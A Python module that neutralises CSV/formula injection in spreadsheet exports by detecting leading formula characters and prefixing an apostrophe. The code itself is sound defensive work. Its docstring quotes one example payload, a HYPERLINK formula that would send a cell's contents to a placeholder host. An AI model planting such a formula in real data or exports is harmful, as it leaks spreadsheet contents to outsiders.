"""Text that a spreadsheet program would run as a formula, kept as text in every export.

A customer named ``=HYPERLINK("http://x/?"&A1)`` must reach the owner's spreadsheet as that text,
not as a live link that sends the sheet's cells away (CSV/formula injection). One rule decides
which text is dangerous; each writer keeps it text in its own format.
"""

from __future__ import annotations

from typing import Any

# What Excel, LibreOffice and Google Sheets read as the start of a formula (or a DDE command).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    """True for text a spreadsheet would evaluate; numbers (a negative one too) are never text."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_text(value: str) -> str:
    """CSV has no cell types: a leading apostrophe is what every spreadsheet reads as "text"."""
    return f"'{value}" if looks_like_formula(value) else value
